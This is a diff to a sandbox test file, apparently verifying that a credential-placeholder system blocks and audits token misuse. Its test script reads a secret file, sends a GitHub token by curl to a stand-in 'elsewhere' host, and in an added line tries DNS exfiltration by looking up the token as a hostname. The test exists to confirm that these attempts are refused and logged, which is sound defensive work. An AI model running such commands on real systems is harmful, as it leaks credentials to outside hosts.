@@ -29,6 +29,7 @@ echo "SECRET-FILE-$((1+1))-BEGIN"; cat "$SECRET_FILE" 2>&1; echo "SECRET-FILE-$(
 curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "http://creds.runtest.example/echo/run" \\
   | python3 -c 'import hashlib,json,sys; print("AUTH-SHA256", hashlib.sha256(json.load(sys.stdin)["headers"]["authorization"].encode()).hexdigest())'
 curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "http://open.runtest.example/echo/elsewhere"; echo
+getent hosts "$GITHUB_TOKEN.example" || echo "DNS-LOOKUP-FAILED"
 `;
 
 beforeAll(async () => {
@@ -107,6 +108,9 @@ it('CMD holds the placeholder, never the value; the bound endpoint gets the valu
     expect(readFileSync(audit, 'latin1')).not.toContain(value);
   }
   const events = readFileSync(audit, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
-  expect(events.find((e) => e.kind === 'credential_misuse')).toMatchObject({ credentials: ['github'], host: 'open.runtest.example', binary: '/usr/bin/curl' });
+  expect(events.find((e) => e.kind === 'credential_misuse' && e.via === 'http')).toMatchObject({ credentials: ['github'], host: 'open.runtest.example', binary: '/usr/bin/curl' });
+  // A DNS query for <placeholder>.example: REFUSED by the run's DNS proxy, audited by name.
+  expect(stdout).toContain('DNS-LOOKUP-FAILED');
+  expect(events.find((e) => e.kind === 'credential_misuse' && e.via === 'dns')).toMatchObject({ credentials: ['github'], rcode: 'REFUSED' });
   expect(events.find((e) => e.kind === 'http' && e.host === 'creds.runtest.example')).toMatchObject({ allow: true, credentials: ['filecred', 'github'] });
 }, 120_000);
